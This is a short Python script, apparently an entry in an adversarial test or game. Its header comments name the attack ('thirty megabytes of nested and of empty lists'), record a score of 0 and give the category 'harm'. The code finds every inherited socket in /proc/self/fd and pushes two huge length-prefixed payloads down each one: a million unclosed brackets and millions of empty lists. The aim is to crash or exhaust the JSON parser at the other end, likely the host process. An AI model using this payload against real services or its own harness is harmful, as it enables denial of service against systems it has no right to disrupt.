# tries: thirty megabytes of nested and of empty lists
# points: 0
# stock: harm
import json
import os
import socket
import stat
import struct

def channels():
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            if stat.S_ISSOCK(os.stat(f"/proc/self/fd/{name}").st_mode):
                found.append(int(name))
        except OSError:
            pass
    return found

def frame(data):
    body = json.dumps(data).encode()
    return struct.pack("!I", len(body)) + body

for handle in channels():
    os.set_blocking(handle, True)
    for body in (b"[" * 1_000_000, b"[" + b"[]," * 5_000_000 + b"0]"):
        data = struct.pack("!I", len(body)) + body
        while data:
            data = data[os.write(handle, data[:1 << 16]):]
